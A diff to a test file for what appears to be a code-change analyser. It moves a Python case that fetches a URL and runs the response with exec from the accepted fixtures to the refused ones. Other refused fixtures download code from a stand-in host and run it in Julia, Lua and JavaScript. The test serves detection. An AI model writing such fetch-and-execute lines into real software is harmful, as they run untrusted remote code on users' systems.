@@ -165,17 +165,17 @@ describe('pass 13, G: a fetch the sink\'s argument holds past its first parenthe
     ['src/load.jl', 'include(download("https://x.example/p.jl"))'],
     ['src/load.lua', 'dofile(download("https://x.example/p.lua"))'],
     ['src/load.js', 'const { data } = await axios.get(u); eval(data);'],
+    // Review 67 (R67-1): a fetch assigned and run on another line is linked by its name, refused (it was the approval's warning).
+    ['src/a.py', 'r = requests.get(url)\nexec(r.text)'],
   ])('refuses, in %s: %s', refused);
 
-  // A downloader run for its file only downloads; a fetch assigned and run on another line stays the approval's
-  // warning (test/unit/analysis/patch.test.ts), as before.
+  // A downloader run for its file only downloads.
   it.each([
     ['lib/a.rb', "system('curl -fsSL -o data.json https://x.example/d.json')"],
     ['src/a.js', "const r = await got('/health');\nconsole.log(r.statusCode);"],
     ['src/a.js', "await request(app).get('/').expect(200);"],
     ['src/a.js', 'const { data } = await axios.get(u); console.log(data);'],
     ['src/a.js', 'const data = await fetch(u).then((r) => r.json()); setItems(data);'],
-    ['src/a.py', 'r = requests.get(url)\nexec(r.text)'],
   ])('accepts, in %s: %s', accepted);
 });
 
